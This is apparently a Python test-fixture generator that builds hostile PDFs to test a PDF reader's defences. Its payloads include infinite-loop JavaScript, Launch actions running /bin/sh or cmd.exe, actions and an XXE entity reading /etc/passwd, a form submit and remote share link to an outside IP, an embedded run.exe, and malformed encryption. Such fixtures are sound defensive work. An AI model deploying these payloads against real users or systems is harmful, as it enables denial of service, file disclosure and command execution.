"""Hostile PDFs with scripts, actions, attachments and encryption."""

from __future__ import annotations

import hashlib
from random import Random

from tools.hostile.hostile_raw import A4, FONT, Draft, one_page, page, stream, text, written
from tools.hostile.hostile_texts import SECRET, SEEN

PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _script(rng: Random) -> bytes:
    code = b"/S/JavaScript/JS(app.alert\\(%d\\);while\\(true\\){})" % rng.randint(1, 10**6)
    catalogs = [
        b"/OpenAction<<%b>>" % code,
        b"/AA<</WC<<%b>>/DS<<%b>>>>" % (code, code),
        b"/Names<</JavaScript<</Names[(a)<<%b>>]>>>>" % code,
    ]
    return one_page(text(SEEN), catalog=rng.choice(catalogs))


def _launch(rng: Random) -> bytes:
    actions = [
        b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        b"/S/URI/URI(file:///etc/passwd)",
        b"/S/GoToR/F(\\\\\\\\198.51.100.7\\\\share\\\\a.pdf)/D[0/Fit]",
        b"/S/SubmitForm/F(http://198.51.100.7/%d)" % rng.randint(1, 10**6),
        b"/S/ImportData/F(/etc/passwd)",
        b"/S/GoToE/T<</R/C/N(a.pdf)>>",
    ]
    note = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 500 500]/A<<%b>>>>]" % rng.choice(actions)
    return one_page(text(SEEN), entries=A4 + note, catalog=b"/OpenAction<<%b>>" % rng.choice(actions))


def _attached(rng: Random) -> bytes:
    """Make a PDF with embedded files, none of which may be opened."""
    draft = Draft()
    inside = one_page(text(SECRET)) if rng.random() < 0.5 else f"MZ {SECRET} {rng.random()}".encode()
    file = draft.add(stream(inside, b"/Type/EmbeddedFile"))
    spec = draft.add(b"<</Type/Filespec/F(run.exe)/EF<</F %d 0 R>>>>" % file)
    names = b"/Names<</EmbeddedFiles<</Names[(run.exe) %d 0 R]>>>>" % spec
    names += rng.choice([b"", b"/Collection<</View/T/D(run.exe)>>", b"/AF[%d 0 R]" % spec])
    return written(draft, [page(draft, text(SEEN))], catalog=names)


def _form(rng: Random) -> bytes:
    """Make a PDF with fields, an XFA form with an external entity (XXE), and calculations."""
    draft = Draft()
    entity = b'<!DOCTYPE x [<!ENTITY a "%b"><!ENTITY b SYSTEM "file:///etc/passwd">]>' % (b"&b;" * 9)
    xfa = draft.add(stream(entity + b"<xdp:xdp><template>&a;&b;</template></xdp:xdp>"))
    field = draft.add(
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(value %d)/Rect[9 9 99 30]"
        b"/AA<</C<</S/JavaScript/JS(while\\(1\\){})>>>>>>" % rng.randint(1, 10**6)
    )
    catalog = b"/AcroForm<</Fields[%d 0 R]/XFA %d 0 R/NeedAppearances true>>" % (field, xfa)
    return written(draft, [page(draft, text(SEEN), entries=A4 + b"/Annots[%d 0 R]" % field)], catalog=catalog)


def _annotations(rng: Random) -> bytes:
    kinds = [
        b"Text",
        b"FreeText",
        b"Widget",
        b"Popup",
        b"Movie",
        b"RichMedia",
        b"3D",
        b"Screen",
        b"Nope",
        b"Stamp",
    ]
    notes = b"".join(
        b"<</Type/Annot/Subtype/%b/Rect[%d 0 9 1e9]/AP<</N %d 0 R>>/Contents(note)>>"
        % (rng.choice(kinds), rng.randint(-(10**6), 10**6), rng.randint(1, 9))
        for _ in range(rng.choice([3, 30, 3000]))
    )
    return one_page(text(SEEN), entries=A4 + b"/Annots[" + notes + b"]")


def _scrambled(key: bytes, data: bytes) -> bytes:
    """Encrypt with RC4, as version 1 of the standard security handler does."""
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def _digest(data: bytes) -> bytes:
    return hashlib.md5(data, usedforsecurity=False).digest()


def locked(user: bytes, owner: bytes, *, permissions: int = -4) -> bytes:
    """Return a page under the standard security handler of PDF 1.1 (40 bits).

    PDF 32000-1, 7.6.3, algorithms 1 to 4.
    """
    name = b"0123456789abcdef"
    kept = _scrambled(_digest((owner + PAD)[:32])[:5], (user + PAD)[:32])
    limits = (permissions & 0xFFFFFFFF).to_bytes(4, "little")
    key = _digest((user + PAD)[:32] + kept + limits + name)[:5]
    draft = Draft()
    inner = _scrambled(_digest(key + b"\1\0\0\0\0")[:10], text("A locked page", SEEN))
    draft.add(stream(inner, packed=False))
    lock = b"/Encrypt<</Filter/Standard/V 1/R 2/P %d/O<%b>/U<%b>>>/ID[<%b><%b>]" % (
        permissions,
        kept.hex().encode(),
        _scrambled(key, PAD).hex().encode(),
        name.hex().encode(),
        name.hex().encode(),
    )
    return written(draft, [A4 + b"/Resources<<%b>>/Contents 1 0 R" % FONT], trailer=lock)


def _user_locked(rng: Random) -> bytes:
    return locked(b"user%d" % rng.randint(1, 10**6), b"owner")


def _owner_locked(rng: Random) -> bytes:
    """Make a PDF that anybody may open, but only its owner may copy from; it is read."""
    return locked(b"", b"owner%d" % rng.randint(1, 10**6), permissions=-3904)


def _odd_lock(rng: Random) -> bytes:
    data = _user_locked(rng)
    changes = [
        (b"/Filter/Standard", b"/Filter/Nobody"),
        (b"/V 1", b"/V %d" % rng.choice([0, 3, 4, 5, 99, -1])),
        (b"/R 2", b"/R %d" % rng.choice([0, 3, 4, 6, 99])),
        (b"/O<", b"/O<zz"),
        (b"/U<", b"/Nope<"),
        (b"/Encrypt<<", b"/Encrypt 77 0 R/E<<"),
    ]
    return data.replace(*rng.choice(changes))


ACTIVE = {
    "scripts": _script,
    "launch actions": _launch,
    "attached files": _attached,
    "forms": _form,
    "annotations": _annotations,
}
LOCKS = {"password": _user_locked, "owner's password": _owner_locked, "odd locks": _odd_lock}
